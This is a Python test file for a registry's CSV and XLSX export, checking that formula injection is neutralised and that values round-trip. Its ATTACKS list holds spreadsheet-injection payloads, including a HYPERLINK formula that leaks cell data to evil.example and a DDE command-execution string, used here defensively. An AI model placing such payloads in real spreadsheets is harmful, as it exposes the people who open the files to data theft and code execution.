"""The spreadsheet form (CSV, XLSX): formulas never run, text and numbers come back as they went
in, and `export_registry` writes every format."""

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from registry.interchange.spreadsheet import (
    FORMULA_TRIGGERS,
    columns,
    csv_lines,
    quote_text,
    unquote_text,
)
from registry.interchange.workbook import write_xlsx
from tests.conftest import ALL_KINDS, ENTERPRISE, INCUBATOR, PLOT, ZONE, lines, run_import

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(kind: str, records: list[dict], fmt: str = "csv") -> list[dict]:
    text = "".join(csv_lines(kind, records, fmt))
    delimiter = ";" if fmt == "csv-semicolon" else ","
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def xlsx_rows(kind: str, records: list[dict]) -> list[dict]:
    out = io.BytesIO()
    write_xlsx([kind], lambda _kind: records, out)
    sheet = load_workbook(io.BytesIO(out.getvalue()))[kind]
    header = [cell.value for cell in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(2, values_only=True)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_is_neutralised_in_csv_and_xlsx(attack):
    record = INCUBATOR | {"name": attack, "description": {"vi": attack}}
    for row in (csv_cells("incubator", [record])[0], xlsx_rows("incubator", [record])[0]):
        assert row["name"] == "'" + attack
        assert row["description.vi"] == "'" + attack
        assert unquote_text(row["name"]) == attack


def test_formula_text_in_lists_is_neutralised_and_numbers_stay_numbers():
    record = {"kind": "rd_organisation", "ref": "x-lab", "name": "Lab", "org_kind": "lab"}
    record |= {"labs": ["=1+1", "Đo kiểm"], "location": {"lat": 10.5, "lon": 107}}
    assert csv_cells("rd_organisation", [record])[0]["labs"] == "'=1+1; Đo kiểm"
    assert xlsx_rows("rd_organisation", [record])[0]["labs"] == "'=1+1; Đo kiểm"
    number = next(column for column in columns("incubator") if column.key == "ticket_min_usd")
    assert number.cell(-5) == -5 and number.text(-5) == "-5"
    assert number.cell(-2.5) == -2.5 and number.text(-2.5) == "-2.5"


def test_a_leading_quote_is_doubled_so_it_comes_back():
    assert quote_text("'tis") == "''tis" and unquote_text("''tis") == "'tis"
    assert quote_text("Khu công nghệ số") == "Khu công nghệ số"


def test_cells_are_typed_and_whole_numbers_are_integers():
    record = PLOT | {"area_m2": 20000.0, "lease_price_usd_m2": 20000.5}
    record |= {"cleanroom_ready": False, "available_from": "2027-01-15"}
    row = xlsx_rows("plot", [record])[0]
    assert row["area_m2"] == 20000 and isinstance(row["area_m2"], int)
    assert row["lease_price_usd_m2"] == 20000.5
    assert row["cleanroom_ready"] is False
    assert row["available_from"] == dt.datetime(2027, 1, 15)
    assert row["suitable_for"] == "data_centre.hyperscale"
    cells = csv_cells("plot", [record], "csv-semicolon")[0]
    assert cells["area_m2"] == "20000" and cells["lease_price_usd_m2"] == "20000.5"
    assert cells["cleanroom_ready"] == "false" and cells["available_from"] == "2027-01-15"
    assert cells["location.lat"] == "10.8"  # a dot, whatever the separator


texts = st.text(max_size=60)
TEXT_SETTINGS = settings(max_examples=60, deadline=None)


@TEXT_SETTINGS
@given(name=texts, description=texts)
def test_csv_text_never_starts_a_formula_and_comes_back_exactly(name, description):
    record = ENTERPRISE | {"name": name, "description": {"vi": description}}
    row = csv_cells("enterprise", [record])[0]
    for key, text in (("name", name), ("description.vi", description)):
        assert not row[key].startswith(FORMULA_TRIGGERS)
        assert unquote_text(row[key]) == text
        if not text.startswith((*FORMULA_TRIGGERS, "'")):
            assert row[key] == text


XML_TEXT = st.text(
    st.characters(
        blacklist_categories=["Cs"],
        blacklist_characters=[chr(c) for c in (*range(0, 9), 11, 12, *range(14, 32))]
        + ["\ufffe", "\uffff"],
    ),
    max_size=60,
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=XML_TEXT, description=XML_TEXT)
def test_xlsx_text_never_starts_a_formula_and_comes_back_exactly(name, description):
    record = ENTERPRISE | {"name": name, "description": {"vi": description}}
    row = xlsx_rows("enterprise", [record])[0]
    for key, text in (("name", name), ("description.vi", description)):
        cell = row[key] or ""  # an empty text is an empty cell
        assert not cell.startswith(FORMULA_TRIGGERS)
        assert unquote_text(cell) == text


def test_xlsx_replaces_what_xml_cannot_hold_instead_of_failing():
    row = xlsx_rows("enterprise", [ENTERPRISE | {"name": "a\x00b\x1b\ufffe"}])[0]
    assert row["name"] == "a\ufffdb\ufffd\ufffd"


@pytest.mark.django_db
def test_export_registry_writes_xlsx_and_both_csv_variants(tmp_path):
    run_import(lines(*ALL_KINDS))
    target = tmp_path / "registry.xlsx"
    call_command("export_registry", "--format", "xlsx", "-o", str(target), stderr=io.StringIO())
    book = load_workbook(target)
    assert book.sheetnames[0] == "README" and book["zone"]["C2"].value == "Khu thử nghiệm"
    out = io.StringIO()
    call_command(
        "export_registry", "--kind", "zone", "--format", "csv-semicolon", stdout=out, stderr=out
    )
    text = out.getvalue().split("Exported")[0]
    assert text.startswith("\ufeffkind;ref;")
    row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert row["name"] == ZONE["name"] and row["total_area_ha"] == "100"
    folder = tmp_path / "csv"
    call_command(
        "export_registry", "--format", "csv-semicolon", "-o", str(folder), stderr=io.StringIO()
    )
    assert (folder / "plot.csv").read_text(encoding="utf-8-sig").startswith("kind;ref;")


def test_export_registry_xlsx_needs_a_file():
    with pytest.raises(CommandError, match="-o"):
        call_command("export_registry", "--format", "xlsx", stderr=io.StringIO())


@pytest.mark.django_db
def test_json_lines_keep_text_exact_where_spreadsheets_quote_it():
    record = ZONE | {"name": "=1+1", "operator": "-Công ty"}
    assert run_import(lines(record)).ok
    out = io.StringIO()
    call_command("export_registry", "--kind", "zone", stdout=out, stderr=io.StringIO())
    exported = json.loads(out.getvalue())
    assert exported["name"] == "=1+1" and exported["operator"] == "-Công ty"
    assert exported["total_area_ha"] == 100 and "100.0" not in out.getvalue()


def test_readme_meanings_say_one_choice_or_several():
    meanings = {column.key: column for column in columns("enterprise")}
    assert "One of: domestic (" in meanings["ownership"].meaning("en")
    assert "Any of: chip_design (Chip design)" in meanings["value_chain_roles"].meaning("en")
    assert "Các giá trị có thể dùng: chip_design (Thiết kế chip)" in meanings[
        "value_chain_roles"
    ].meaning("vi")
